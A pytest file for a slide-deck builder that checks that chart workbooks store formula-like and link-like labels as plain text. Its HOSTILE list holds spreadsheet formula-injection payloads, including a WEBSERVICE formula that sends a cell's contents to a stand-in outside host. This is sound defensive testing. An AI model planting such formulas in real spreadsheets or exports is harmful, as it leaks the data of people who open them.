"""Chart workbooks hold data, never formulas or links, whatever the outline's labels say."""

import zipfile

import openpyxl
import pytest

from deck.cli import main

HOSTILE = [
    '=WEBSERVICE("https://example.com/?"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\tleading tab",
    "https://example.com/x",
]


@pytest.fixture
def workbook(write, tmp_path):
    labels = ", ".join('"' + s.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t") + '"' for s in HOSTILE)
    outline = write(
        "outline.yaml",
        f"""title: T
slides:
  - title: Chart
    chart:
      type: column
      categories: [{labels}]
      series:
        '=1+2': [1, 2, 3, 4, 5, 6]
        'mailto:a@example.com': [6, 5, 4, 3, 2, 1]
""",
    )
    out = tmp_path / "deck.pptx"
    assert main(["build", str(outline), "-o", str(out)]) == 0
    with zipfile.ZipFile(out) as z:
        [name] = [n for n in z.namelist() if n.endswith(".xlsx")]
        path = tmp_path / "book.xlsx"
        path.write_bytes(z.read(name))
    return openpyxl.load_workbook(path)


def test_chart_labels_that_look_like_formulas_are_stored_as_text(workbook):
    sheet = workbook.active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert [sheet.cell(row=r, column=1).value for r in range(2, 8)] == HOSTILE
    assert [sheet.cell(row=1, column=c).value for c in (2, 3)] == ["=1+2", "mailto:a@example.com"]


def test_chart_labels_that_look_like_links_are_not_hyperlinks(workbook):
    sheet = workbook.active
    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.hyperlink is not None] == []


def test_chart_values_are_numbers(workbook):
    sheet = workbook.active
    assert [sheet.cell(row=r, column=2).value for r in range(2, 8)] == [1, 2, 3, 4, 5, 6]
